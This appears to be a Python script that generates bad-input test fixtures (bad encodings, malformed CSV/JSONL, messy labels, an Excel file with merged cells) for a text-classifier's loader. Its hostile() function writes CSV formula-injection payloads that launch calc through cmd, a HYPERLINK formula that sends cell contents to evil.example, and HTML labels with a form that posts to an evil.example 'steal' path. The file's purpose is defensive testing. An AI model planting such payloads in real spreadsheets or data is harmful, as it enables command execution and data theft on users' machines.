"""Writes the small bad-input files of this folder (run once; the files are committed). The big ones (a 100 MB
file, a single 5 MB text; the quadratic CSV, the 100,000-column CSV and the .xlsx bomb of issue 17) are made at test
time by tests/test_bad_inputs.py and tests/test_hostile_input.py, never committed.

    python tests/bad_inputs/make.py             # every file
    python tests/bad_inputs/make.py hostile     # only the hostile-input files (issue 17)
"""

from __future__ import annotations

import csv
import io
import json
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent
SPAM = ["WIN a free prize now, call 0800 123", "URGENT: your account won cash, txt CLAIM", "Free entry to win a car"]
HAM = ["See you at lunch tomorrow", "I'll call you after the meeting", "Can you pick up some milk?"]


def rows(n: int, labels=("spam", "ham")) -> list[tuple[str, str]]:
    out = []
    for i in range(n):
        label = labels[i % len(labels)]
        base = SPAM if i % 2 == 0 else HAM
        out.append((f"{base[i % 3]} #{i}", label))
    return out


def csv_text(pairs, header=("text", "label")) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(pairs)
    return out.getvalue()


def main() -> None:
    rng = random.Random(0)
    (HERE / "empty.csv").write_bytes(b"")
    (HERE / "header_only.csv").write_text("text,label\n", encoding="utf-8")
    (HERE / "binary_garbage.csv").write_bytes(bytes(rng.randrange(256) for _ in range(4096)))
    ragged = ['text,label', '"an unbalanced quote, spam', 'fine text,ham', 'too,many,cells,here', 'short',
              *[f"message {i},{'spam' if i % 2 else 'ham'}" for i in range(40)]]
    (HERE / "ragged_quotes.csv").write_text("\n".join(ragged) + "\n", encoding="utf-8")
    news = [("国足热身赛2比0战胜对手", "体育"), ("恒生指数收涨1.2%", "财经"), ("新款手机发布续航提升", "科技")]
    chinese = [(f"{t} 第{i}条", lab) for i in range(30) for t, lab in [news[i % 3]]]
    (HERE / "gbk.csv").write_bytes(csv_text(chinese, ("文本", "标签")).encode("gbk"))
    rare = [(f"{t} 𠀀㐀 第{i}条", lab) for i in range(30) for t, lab in [news[i % 3]]]  # beyond GBK
    (HERE / "gb18030.csv").write_bytes(csv_text(rare, ("文本", "标签")).encode("gb18030"))
    (HERE / "utf16.csv").write_bytes(csv_text(rows(40)).encode("utf-16"))
    (HERE / "utf8_bom.csv").write_bytes(csv_text(rows(40)).encode("utf-8-sig"))
    lines = [json.dumps({"text": t, "label": lab}) for t, lab in rows(40)]
    lines[7] = '{"text": "a broken line, "label": spam'
    (HERE / "broken_line.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (HERE / "labels_floats.csv").write_text(
        csv_text([(t, "1.0" if lab == "spam" else "0.0") for t, lab in rows(40)]), encoding="utf-8")
    mixed = [(t, ["1", "one", "2", 2.0][i % 4]) for i, (t, _) in enumerate(rows(40))]
    (HERE / "labels_mixed_int_str.csv").write_text(csv_text(mixed), encoding="utf-8")
    spaced = [(t, ["Spam ", "spam", " SPAM", "ham", "Ham  "][i % 5]) for i, (t, _) in enumerate(rows(40))]
    (HERE / "labels_spaces_case.csv").write_text(csv_text(spaced), encoding="utf-8")
    empties = [(t if i % 4 else ["", "NaN", "  ", "null"][i // 4 % 4], lab) for i, (t, lab) in enumerate(rows(40))]
    (HERE / "nan_texts.csv").write_text(csv_text(empties), encoding="utf-8")
    (HERE / "one_class.csv").write_text(csv_text(rows(30, ("spam",))), encoding="utf-8")
    many = [(f"message about topic {c} number {k}", f"topic_{c:03d}") for c in range(200) for k in range(3)]
    (HERE / "200_classes.csv").write_text(csv_text(many), encoding="utf-8")
    (HERE / "class_one_example.csv").write_text(csv_text(rows(40) + [("a lonely kind of text", "rare")]),
                                                encoding="utf-8")
    unreadable = [("".join(chr(0x10000 + rng.randrange(0x80)) for _ in range(12)), lab) for _, lab in rows(40)]
    (HERE / "unknown_script.csv").write_text(csv_text(unreadable), encoding="utf-8")
    (HERE / "test_unseen_labels.csv").write_text(
        csv_text([(f"another text {i}", ["eggs", "bacon"][i % 2]) for i in range(10)]), encoding="utf-8")
    _excel(HERE / "sheets_merged.xlsx")
    hostile()


def hostile() -> None:
    """Small files of hostile or careless content (issue 17): formulas, HTML and Markdown in texts and labels, a
    one-line CSV of quoted fields, a CSV of 1,001 columns."""
    formulas = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "-1", "a plain text"]
    (HERE / "formula_texts.csv").write_text(csv_text([(t, "x") for t in formulas]), encoding="utf-8")
    html_labels = ["<a href=https://evil.example>click</a>", "<form action=https://evil.example/steal>",
                   "**bold** [link](https://evil.example)"]
    labelled = [(text, html_labels[i % 3]) for i, (text, _) in enumerate(rows(30))]
    (HERE / "html_labels.csv").write_text(csv_text(labelled), encoding="utf-8")
    (HERE / "one_line_quotes.csv").write_text('label,text\na,"x"' + ', "x"' * 2000 + "\n", encoding="utf-8")
    header = ["text", "label", *(f"extra_{i}" for i in range(999))]
    wide = [(t, lab, *("0" for _ in range(999))) for t, lab in rows(3)]
    (HERE / "1001_columns.csv").write_text(csv_text(wide, header), encoding="utf-8")


def _excel(path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    notes = book.active
    notes.title = "Notes"
    notes["A1"] = None  # an empty first sheet
    data = book.create_sheet("Data")
    data.append(["Customer messages", None])
    data.merge_cells("A1:B1")  # a merged title row above the header
    data.append(["text", "label"])
    for t, lab in rows(40):
        data.append([t, lab])
    data.merge_cells("B5:B6")  # a merged label cell: the second row has no label of its own
    other = book.create_sheet("Summary")
    other.append(["total", 40])
    book.save(path)


if __name__ == "__main__":
    import sys

    hostile() if sys.argv[1:] == ["hostile"] else main()
